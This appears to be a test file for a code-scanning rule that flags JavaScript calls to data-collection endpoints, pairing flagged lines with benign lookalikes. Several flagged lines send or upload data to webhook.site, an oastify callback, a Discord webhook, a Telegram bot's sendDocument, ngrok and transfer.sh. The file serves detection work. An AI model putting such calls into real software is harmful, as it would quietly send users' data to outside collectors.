// ruleid: calls-collector
const url = "https://webhook.site/00000000-0000-0000-0000-000000000000";
// ruleid: calls-collector
https.get(`https://${user}.abcdef.oastify.com/`);
// ruleid: calls-collector
const hook = "https://discord.com/api/webhooks/1/x";
// ruleid: calls-collector
post("https://api.telegram.org/bot" + key + "/sendDocument");
// ruleid: calls-collector
const tunnel = "https://a1b2.ngrok-free.app/up";
// ruleid: calls-collector
upload("https://transfer.sh/report");

// ok: calls-collector
const site = "https://discord.com/invite/example";
// ok: calls-collector
const docs = "https://example.test/webhook/site";
// ok: calls-collector
const profile = "https://profile.io/x";
